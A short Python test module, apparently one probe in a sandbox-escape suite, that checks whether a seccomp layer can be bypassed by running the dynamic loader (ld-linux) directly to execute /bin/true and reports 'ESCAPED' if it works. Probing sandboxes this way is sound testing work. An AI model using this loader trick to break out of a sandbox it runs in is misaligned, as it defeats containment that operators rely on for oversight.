"""The dynamic loader as a way around a closed execve.

layer: seccomp
"""
import glob
import os

from tools import attempt, first, in_child


def attack():
    loaders = [*glob.glob("/lib64/ld-linux*"), *glob.glob("/lib/x86_64-linux-gnu/ld-*")]
    return first(*(in_child(lambda path=path: attempt(os.execv, path, [path, "/bin/true"])) or "ESCAPED: it ran"
                   for path in loaders))
